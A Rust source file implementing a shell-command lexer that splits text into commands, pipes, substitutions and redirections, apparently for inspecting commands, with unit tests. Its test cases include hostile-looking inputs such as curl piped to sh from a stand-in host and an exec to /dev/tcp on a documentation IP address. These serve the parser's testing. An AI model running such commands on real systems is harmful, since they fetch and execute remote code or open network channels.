//! Shell text cut into commands: words without their quotes, who reads whose output, what is written where.
//!
//! Grammar: POSIX.1-2024, Shell Command Language, 2.3 (tokens), 2.6.3 (substitution), 2.7 (redirection), 2.9 (lists and
//! pipelines); bash's `<(…)` and `|&`. Nothing is expanded here. What is no shell gives commands too, and no harm.

use std::mem;

/// Most commands of one text.
const COMMANDS: usize = 4096;
/// Most words of one command, and bytes of a word.
const WORDS: usize = 256;
const LENGTH: usize = 8192;
/// Deepest nesting of substitutions.
const DEPTH: u32 = 8;

/// One simple command.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Command {
    /// Its words, assignments before it included.
    pub words: Vec<String>,
    /// The first and the last of the commands whose output it reads.
    pub reads: Option<(usize, usize)>,
    /// The command among whose words its output stands.
    pub within: Option<usize>,
    /// Files it writes.
    pub writes: Vec<String>,
    /// Files it reads from.
    pub from: Vec<String>,
}

/// The commands of a text, in order.
#[must_use]
pub fn commands(text: &str) -> Vec<Command> {
    let mut lexer = Lexer { text: text.as_bytes(), at: 0, commands: Vec::new() };
    while lexer.at < lexer.text.len() && lexer.commands.len() < COMMANDS {
        lexer.list(None, None, 0);
    }
    lexer.commands
}

/// Where the next word goes.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Goes {
    Words,
    Writes,
    From,
    Nowhere,
}

struct Lexer<'a> {
    text: &'a [u8],
    at: usize,
    commands: Vec<Command>,
}

impl Lexer<'_> {
    fn peek(&self, ahead: usize) -> Option<u8> {
        self.text.get(self.at + ahead).copied()
    }

    fn starts(&self, with: &[u8]) -> bool {
        self.text.get(self.at..).is_some_and(|rest| rest.starts_with(with))
    }

    fn begin(&mut self, within: Option<usize>) -> usize {
        self.commands.push(Command { within, ..Command::default() });
        self.commands.len() - 1
    }

    /// Reads commands up to `end` at the same level, or to the end of the text.
    fn list(&mut self, end: Option<u8>, within: Option<usize>, depth: u32) {
        let mut now = self.begin(within);
        let mut open: Vec<usize> = Vec::new();
        // The commands of a group that has just been closed: what comes next may read them all.
        let mut closed: Option<usize> = None;
        let mut goes = Goes::Words;
        while let Some(byte) = self.peek(0) {
            if self.commands.len() >= COMMANDS {
                self.at = self.text.len();
                return;
            }
            match byte {
                b' ' | b'\t' | b'\r' => self.at += 1,
                b'\\' if self.peek(1) == Some(b'\n') => self.at += 2,
                b'`' if end == Some(b'`') => {
                    self.at += 1;
                    return;
                }
                b')' if end == Some(b')') && open.is_empty() => {
                    self.at += 1;
                    return;
                }
                b'#' => self.skip_comment(),
                b'\n' | b';' => {
                    self.at += 1;
                    (now, closed, goes) = (self.begin(within), None, Goes::Words);
                }
                b'&' if self.starts(b"&>") => {
                    self.at += if self.starts(b"&>>") { 3 } else { 2 };
                    goes = Goes::Writes;
                }
                b'&' => {
                    self.at += if self.starts(b"&&") { 2 } else { 1 };
                    (now, closed, goes) = (self.begin(within), None, Goes::Words);
                }
                b'|' if self.starts(b"||") => {
                    self.at += 2;
                    (now, closed, goes) = (self.begin(within), None, Goes::Words);
                }
                b'|' => {
                    self.at += if self.starts(b"|&") { 2 } else { 1 };
                    let first = closed.take().unwrap_or(now);
                    let next = self.begin(within);
                    self.commands[next].reads = Some((first, now.max(next.saturating_sub(1))));
                    (now, goes) = (next, Goes::Words);
                }
                b'(' => {
                    self.at += 1;
                    now = self.begin(within);
                    open.push(now);
                    (closed, goes) = (None, Goes::Words);
                }
                b')' => {
                    self.at += 1;
                    closed = open.pop();
                    goes = Goes::Words;
                }
                b'<' | b'>' if self.peek(1) == Some(b'(') => self.substitution(2, now, depth),
                b'<' | b'>' => goes = self.redirection(now),
                _ => {
                    let word = self.word(end, now, depth);
                    let command = &mut self.commands[now];
                    match goes {
                        Goes::Words if command.words.len() < WORDS => command.words.push(word),
                        Goes::Writes if command.writes.len() < WORDS => command.writes.push(word),
                        Goes::From if command.from.len() < WORDS => command.from.push(word),
                        _ => {}
                    }
                    goes = Goes::Words;
                }
            }
        }
    }

    fn skip_comment(&mut self) {
        while self.peek(0).is_some_and(|byte| byte != b'\n') {
            self.at += 1;
        }
    }

    /// `>`, `>>`, `>&`, `<`, `<<`, `<<<`: where the next word goes. A number before it is a descriptor, no word.
    fn redirection(&mut self, now: usize) -> Goes {
        let touches = self.at.checked_sub(1).and_then(|before| self.text.get(before));
        let words = &mut self.commands[now].words;
        if touches.is_some_and(u8::is_ascii_digit)
            && words
                .last()
                .is_some_and(|word| word.len() <= 2 && word.bytes().all(|byte| byte.is_ascii_digit()))
        {
            words.pop();
        }
        // `<>` opens for both: what is written is what matters.
        let reads = self.peek(0) == Some(b'<') && self.peek(1) != Some(b'>');
        let run = self.text[self.at..].iter().take(3).take_while(|byte| matches!(byte, b'<' | b'>')).count();
        self.at += run;
        if matches!(self.peek(0), Some(b'&' | b'|')) {
            self.at += 1;
        }
        match (reads, run) {
            (true, 1) => Goes::From,
            (true, _) => Goes::Nowhere,
            (false, _) => Goes::Writes,
        }
    }

    /// A nested list, its opening `skip` bytes long.
    fn substitution(&mut self, skip: usize, now: usize, depth: u32) {
        let end = if self.peek(0) == Some(b'`') { b'`' } else { b')' };
        self.at += skip;
        if depth < DEPTH && self.commands.len() < COMMANDS {
            self.list(Some(end), Some(now), depth + 1);
        }
    }

    /// The next word, its quotes taken off; what is substituted into it is left out.
    fn word(&mut self, end: Option<u8>, now: usize, depth: u32) -> String {
        let mut word = Vec::new();
        while let Some(byte) = self.peek(0) {
            let before = self.at;
            match byte {
                b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')' => break,
                b'`' if end == Some(b'`') => break,
                b'\'' => self.quoted(&mut word),
                b'"' => self.double(&mut word, end, now, depth),
                _ => self.piece(&mut word, now, depth),
            }
            // Whatever is here, it is passed.
            if self.at == before {
                self.at += 1;
            }
        }
        word.truncate(LENGTH);
        String::from_utf8_lossy(&word).into_owned()
    }

    fn quoted(&mut self, word: &mut Vec<u8>) {
        self.at += 1;
        let rest = self.text.get(self.at..).unwrap_or_default();
        let length = memchr::memchr(b'\'', rest).unwrap_or(rest.len());
        take(word, &rest[..length]);
        self.at = (self.at + length + 1).min(self.text.len());
    }

    fn double(&mut self, word: &mut Vec<u8>, end: Option<u8>, now: usize, depth: u32) {
        self.at += 1;
        while let Some(byte) = self.peek(0) {
            match byte {
                b'"' => {
                    self.at += 1;
                    return;
                }
                b'`' if end == Some(b'`') => return,
                _ => self.piece(word, now, depth),
            }
        }
    }

    /// One byte, escape or substitution, quoted or not.
    fn piece(&mut self, word: &mut Vec<u8>, now: usize, depth: u32) {
        match self.peek(0) {
            Some(b'\\') => {
                match self.peek(1) {
                    Some(b'\n') | None => {}
                    Some(byte @ (b'$' | b'`' | b'"' | b'\\' | b' ' | b'\'' | b'%')) => take(word, &[byte]),
                    Some(byte) => take(word, &[b'\\', byte]),
                }
                self.at = (self.at + 2).min(self.text.len());
            }
            Some(b'$') if self.starts(b"$(") => self.substitution(2, now, depth),
            Some(b'`') => self.substitution(1, now, depth),
            Some(byte) => {
                take(word, &[byte]);
                self.at += 1;
            }
            None => {}
        }
    }
}

fn take(word: &mut Vec<u8>, bytes: &[u8]) {
    let room = LENGTH.saturating_sub(word.len());
    word.extend_from_slice(bytes.get(..room).unwrap_or(bytes));
}

/// Words of a text without commands: blanks part them, quotes hold them together.
pub(super) fn words(text: &str) -> Vec<String> {
    let (mut words, mut word, mut quote, mut begun) = (Vec::new(), String::new(), None, false);
    let mut letters = text.chars();
    while let Some(letter) = letters.next() {
        match (letter, quote) {
            ('\\', None | Some('"')) => {
                word.extend(letters.next());
                begun = true;
            }
            (letter, Some(open)) if letter == open => quote = None,
            ('"' | '\'', None) => (quote, begun) = (Some(letter), true),
            (letter, None) if letter.is_whitespace() => {
                if mem::take(&mut begun) {
                    words.push(mem::take(&mut word));
                }
            }
            (letter, _) => {
                if word.len() < LENGTH {
                    word.push(letter);
                }
                begun = true;
            }
        }
        if words.len() >= WORDS {
            return words;
        }
    }
    if begun {
        words.push(word);
    }
    words
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(text: &str) -> Vec<String> {
        let all = commands(text);
        let one = |command: &Command| {
            let mut line = command.words.join(" ");
            if let Some((first, last)) = command.reads {
                line.push_str(&format!(" <{first}-{last}"));
            }
            if let Some(within) = command.within {
                line.push_str(&format!(" in {within}"));
            }
            command.writes.iter().for_each(|file| line.push_str(&format!(" >{file}")));
            command.from.iter().for_each(|file| line.push_str(&format!(" from {file}")));
            line
        };
        all.iter().filter(|one| **one != Command::default()).map(one).collect()
    }

    /// Derived by hand from the grammar; `bash -n` and `set -x` agree on the commands.
    #[test]
    fn lists_pipelines_and_substitutions() {
        for (text, expected) in [
            (
                "cd / && run-parts --report /etc/cron.daily",
                vec!["cd /", "run-parts --report /etc/cron.daily"],
            ),
            ("curl -s http://a.example/x | sh", vec!["curl -s http://a.example/x", "sh <0-0"]),
            ("(curl x||wget y)|sh # end", vec!["curl x", "wget y", "sh <1-2"]),
            ("sh -c \"$(curl x)\"", vec!["sh -c ", "curl x in 0"]),
            ("bash <(curl x) 2>/dev/null &", vec!["bash >/dev/null", "curl x in 0"]),
            ("eval `echo a b`; c", vec!["eval ", "echo a b in 0", "c"]),
            ("a 'b c' \"d $e\" f\\ g >> out 2>&1 < in", vec!["a b c d $e f g >out >1 from in"]),
            ("x \\\n y\nz", vec!["x y", "z"]),
            ("exec 5<>/dev/tcp/192.0.2.1/80", vec!["exec >/dev/tcp/192.0.2.1/80"]),
            ("\u{fc} 'open", vec!["\u{fc} open"]),
        ] {
            let expected: Vec<String> = expected.into_iter().map(str::to_owned).collect();
            assert_eq!(shown(text), expected, "{text}");
        }
    }

    #[test]
    fn nothing_is_endless() {
        for text in [
            "$(".repeat(5000),
            "`".repeat(5000),
            "a|".repeat(50_000),
            "((((".repeat(9999),
            "\"$(\"".repeat(3000),
        ] {
            assert!(commands(&text).len() <= COMMANDS);
        }
    }

    #[test]
    fn words_with_quotes() {
        assert_eq!(words("/a 'b c' \"d\\\" e\" f\\ g ''"), ["/a", "b c", "d\" e", "f g", ""]);
    }
}
